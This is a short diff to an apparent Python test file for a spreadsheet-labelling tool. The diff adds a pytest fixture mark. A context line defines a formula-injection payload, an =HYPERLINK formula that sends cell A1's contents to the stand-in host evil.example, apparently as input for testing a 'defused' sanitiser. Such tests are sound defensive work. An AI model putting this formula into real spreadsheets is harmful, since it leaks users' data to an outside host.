@@ -16,6 +16,8 @@ from fusion_eval.errors import InputError, TableError
 from fusion_eval.labelling.sheet import defused
 from fusion_eval.store import write_lines
 
+pytestmark = pytest.mark.usefixtures("no_figures")
+
 NAMES = ["recipe-one", "recipe-two"]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"more")'
 
